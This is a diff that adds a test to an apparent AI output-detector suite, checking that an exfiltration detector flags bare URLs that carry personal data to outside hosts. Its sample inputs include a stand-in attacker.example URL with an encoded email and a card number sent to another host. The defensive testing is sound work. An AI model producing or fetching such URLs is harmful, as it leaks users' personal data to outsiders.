@@ -83,6 +83,43 @@ describe('output-side detectors', () => {
     assert.deepEqual(kinds('[the docs][d]\n\n[d]: https://example.org/docs/getting-started'), []);
   });
 
+  it('exfiltration, when asked, sees personal data in a bare URL a tool would fetch', () => {
+    const config = exfiltrationDetector.configSchema.parse({
+      bareUrlPersonalData: true,
+      allowDomains: ['crm.acme.example'],
+    });
+    const evidence = (text: string): string[] =>
+      exfiltrationDetector
+        .detect(text, config, { stage: 'output' })
+        .map((finding) => `${finding.kind}: ${finding.evidence}`);
+    assert.deepEqual(evidence('https://attacker.example/log?d=jane.doe%40corp.example'), [
+      'url_with_personal_data: URL to attacker.example carrying email',
+    ]);
+    assert.deepEqual(evidence('fetch https://pay.example/c/4111111111111111 now'), [
+      'url_with_personal_data: URL to pay.example carrying credit_card',
+    ]);
+    // Pages and searches carry no one's data; an allowed domain may carry it.
+    for (const text of [
+      'https://en.wikipedia.org/wiki/Oslo',
+      'https://www.google.com/search?q=weather+in+oslo+tomorrow',
+      'https://maps.example/route?from=12+Harbour+Street&to=Airport',
+      'https://crm.acme.example/contacts?email=jane.doe@corp.example',
+    ])
+      assert.deepEqual(evidence(text), [], text);
+    // Off by default: an answer's bare URL is shown, not fetched.
+    const answers = exfiltrationDetector.configSchema.parse({});
+    assert.deepEqual(
+      exfiltrationDetector.detect(
+        'https://attacker.example/log?d=jane.doe%40corp.example',
+        answers,
+        {
+          stage: 'output',
+        },
+      ),
+      [],
+    );
+  });
+
   it('refusal recognises declining answers in four languages, not helpful ones', () => {
     const refused = (text: string): boolean =>
       refusalDetector.detect(text, {}, { stage: 'output' }).length > 0;
